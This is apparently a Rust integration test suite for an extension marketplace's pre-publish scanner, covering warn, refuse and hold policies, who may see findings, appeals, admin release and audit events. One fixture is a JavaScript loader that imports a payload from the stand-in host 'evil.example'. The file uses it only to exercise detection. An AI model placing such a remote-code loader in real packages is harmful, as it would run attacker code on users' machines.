//! The pre-publish scan through the API: what it finds is in the publish
//! answer and shown to the publisher's members and admins only; with
//! `scan_policy = refuse`, a package that loads code from the network is
//! refused and nothing is stored.

use serde_json::Value;
use sora_common::auth::Role;

use crate::helpers::*;

const LOADER: &[u8] =
    b"export async function load() { return import('https://evil.example/payload.js'); }";

#[tokio::test]
async fn findings_are_in_the_answer_and_shown_to_the_publisher_and_admins_only() {
    let app = spawn_app().await;
    let alice = app.tokens.token_for("alice", Role::Editor);
    let clean = publish_as(&app, &alice, foxe(&manifest("acme", "plot", "1.0.0"))).await;
    assert_eq!(clean.status(), 201);
    let clean: Value = clean.json().await.unwrap();
    assert_eq!(clean["scan"], serde_json::json!([]));

    let package = foxe_with(
        &manifest("acme", "plot", "1.1.0"),
        &[("dist/loader.js", LOADER)],
    );
    let published = publish_as(&app, &alice, package).await;
    assert_eq!(published.status(), 201, "the default policy warns");
    let published: Value = published.json().await.unwrap();
    assert_eq!(published["scan"][0]["rule"], "remote-import");
    assert_eq!(published["scan"][0]["severity"], "high");
    assert_eq!(published["scan"][0]["file"], "dist/loader.js");

    let path = "/api/extensions/acme.plot/versions/1.1.0/scan";
    let mine: Value = app.get_as(path, &alice).await.json().await.unwrap();
    assert_eq!(mine["findings"], published["scan"]);
    let admin: Value = app
        .get_as(path, &app.tokens.token(Role::Admin))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(admin["findings"], published["scan"]);
    let stranger = app.tokens.token_for("mallory", Role::Editor);
    assert_problem(app.get_as(path, &stranger).await, 404).await;
    assert_problem(app.get(path).await, 401).await;
    assert_problem(
        app.get_as("/api/extensions/acme.plot/versions/9.9.9/scan", &alice)
            .await,
        404,
    )
    .await;
}

#[tokio::test]
async fn the_refuse_policy_refuses_code_from_the_network_and_stores_nothing() {
    let app = spawn_app_with(|s| {
        s.service.marketplace.scan_policy = file_server::config::ScanPolicy::Refuse;
    })
    .await;
    let alice = app.tokens.token_for("alice", Role::Editor);
    let package = foxe_with(
        &manifest("acme", "plot", "1.0.0"),
        &[("dist/loader.js", LOADER)],
    );
    let problem = assert_problem(publish_as(&app, &alice, package).await, 422).await;
    assert_eq!(problem["errors"][0]["field"], "dist/loader.js:1");
    assert!(
        problem["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("remote-import"),
        "{problem}"
    );
    assert_problem(app.get("/api/extensions/acme.plot").await, 404).await;
    // Dynamic code alone is a warning: published.
    let codegen = foxe_with(
        &manifest("acme", "proto", "1.0.0"),
        &[("dist/codegen.js", b"var f = new Function('a', 'return a');")],
    );
    let published = publish_as(&app, &alice, codegen).await;
    assert_eq!(published.status(), 201);
    let published: Value = published.json().await.unwrap();
    assert_eq!(published["scan"][0]["severity"], "warning");
}

#[tokio::test]
async fn the_hold_policy_keeps_a_version_out_of_sight_until_an_admin_releases_it() {
    let app = spawn_app_with(|s| {
        s.service.marketplace.scan_policy = file_server::config::ScanPolicy::Hold;
    })
    .await;
    let alice = app.tokens.token_for("alice", Role::Editor);
    let mallory = app.tokens.token_for("mallory", Role::Editor);
    let admin = app.tokens.token_for("root", Role::Admin);
    let first = publish_as(&app, &alice, foxe(&manifest("acme", "plot", "1.0.0"))).await;
    assert_eq!(first.status(), 201);
    let package = foxe_with(
        &manifest("acme", "plot", "1.1.0"),
        &[("dist/loader.js", LOADER)],
    );
    let answer = publish_as(&app, &alice, package).await;
    assert_eq!(answer.status(), 202, "held, not published");
    let answer: Value = answer.json().await.unwrap();
    assert_eq!(answer["held"], true);
    assert_eq!(answer["scan"][0]["rule"], "remote-import");

    // Out of sight: not latest, not listed among versions, not downloadable.
    let visible = |app: &TestApp| {
        let client = app.client.clone();
        let details = app.url("/api/extensions/acme.plot");
        let index = app.url("/api/extensions/marketplace.json");
        let download = app.url("/api/extensions/acme.plot/versions/1.1.0/download");
        async move {
            let details: Value = client
                .get(details)
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            let index: Value = client
                .get(index)
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            let download = client.get(download).send().await.unwrap().status().as_u16();
            (
                details["version"].as_str().unwrap().to_owned(),
                details["versions"].as_array().unwrap().len(),
                index[0]["version"].as_str().unwrap().to_owned(),
                download,
            )
        }
    };
    assert_eq!(
        visible(&app).await,
        ("1.0.0".to_owned(), 1, "1.0.0".to_owned(), 404)
    );

    // Its publisher and admins see it with its findings; nobody else.
    let held = |token: String| {
        let request = app
            .client
            .get(app.url("/api/extensions/held"))
            .bearer_auth(token);
        async move { request.send().await.unwrap().json::<Value>().await.unwrap() }
    };
    assert_eq!(held(alice.clone()).await[0]["version"], "1.1.0");
    assert_eq!(held(admin.clone()).await.as_array().unwrap().len(), 1);
    assert_eq!(held(mallory.clone()).await, serde_json::json!([]));

    // The publisher appeals; others cannot, and nobody but an admin releases.
    let post = |token: String, action: &str, reason: &str| {
        app.client
            .post(app.url(&format!(
                "/api/extensions/acme.plot/versions/1.1.0/{action}"
            )))
            .bearer_auth(token)
            .json(&serde_json::json!({ "reason": reason }))
            .send()
    };
    assert_problem(
        post(mallory.clone(), "appeal", "mine now").await.unwrap(),
        404,
    )
    .await;
    assert_problem(post(alice.clone(), "appeal", " ").await.unwrap(), 422).await;
    let appealed = post(
        alice.clone(),
        "appeal",
        "the loader fetches our own plugin CDN",
    )
    .await
    .unwrap();
    assert_eq!(appealed.status(), 204);
    assert_eq!(
        held(admin.clone()).await[0]["appeal"],
        "the loader fetches our own plugin CDN"
    );
    assert_problem(
        post(alice.clone(), "release", "trust me").await.unwrap(),
        403,
    )
    .await;
    assert_eq!(visible(&app).await.0, "1.0.0");

    let released = post(admin.clone(), "release", "the CDN is the publisher's own")
        .await
        .unwrap();
    assert_eq!(released.status(), 204);
    assert_eq!(
        visible(&app).await,
        ("1.1.0".to_owned(), 2, "1.1.0".to_owned(), 200)
    );
    assert_eq!(held(admin.clone()).await, serde_json::json!([]));
    assert_problem(post(admin.clone(), "release", "again").await.unwrap(), 404).await;

    // Audited: held, appealed, released; announced once, on release.
    let mut db = app.database.admin_connection().await;
    let events: Vec<(String, Option<String>)> = sqlx::query_as(
        "SELECT DISTINCT ON (e->>'id') e->>'type', coalesce(e->'data'->>'action', e->'data'->>'version')
         FROM (SELECT body::json AS e FROM bus.messages WHERE queue = 'admin_audit'
               UNION ALL SELECT envelope::json FROM file_server.outbox) m
         ORDER BY e->>'id'",
    )
    .fetch_all(&mut db)
    .await
    .unwrap();
    let mut seen: Vec<String> = events
        .into_iter()
        .map(|(kind, what)| format!("{kind} {}", what.unwrap_or_default()))
        .collect();
    seen.sort();
    assert_eq!(
        seen,
        [
            "sora.admin.action.v1 extension.appealed",
            "sora.admin.action.v1 extension.held",
            "sora.admin.action.v1 extension.released",
            "sora.extension.published.v1 1.0.0",
            "sora.extension.published.v1 1.1.0",
        ]
    );
}
